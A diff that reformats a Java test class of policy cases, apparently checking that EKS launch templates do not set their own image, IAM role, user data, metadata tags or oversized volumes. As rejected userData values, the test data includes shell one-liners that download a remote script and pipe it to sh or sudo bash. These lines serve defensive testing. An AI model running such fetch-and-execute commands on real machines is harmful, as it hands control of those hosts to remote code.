@@ -29,11 +29,15 @@ class LaunchTemplateLeavesTheNodeToEksTest implements PolicyCases {
                 fails("an image", stack(template().set("imageId", "ami-1")), "imageId"),
                 fails("a role", stack(template().set("iamInstanceProfile.name", "admin")), "iamInstanceProfile"),
                 fails("a script", stack(template().set("userData", encoded("curl http://x/i | sh"))), "userData"),
-                fails("a script in clear text", stack(template().set("userData", "wget -qO- x | sudo bash")), "userData"),
+                fails(
+                        "a script in clear text",
+                        stack(template().set("userData", "wget -qO- x | sudo bash")),
+                        "userData"),
                 fails("tags", stack(template().set("metadataOptions.instanceMetadataTags", "enabled")), "tags"),
                 fails(
                         "a huge volume",
-                        stack(template().set("blockDeviceMappings", List.of(Map.of("ebs", Map.of("volumeSize", 50_001))))),
+                        stack(template()
+                                .set("blockDeviceMappings", List.of(Map.of("ebs", Map.of("volumeSize", 50_001))))),
                         "sensible size"),
                 fails(
                         "a volume that stays",
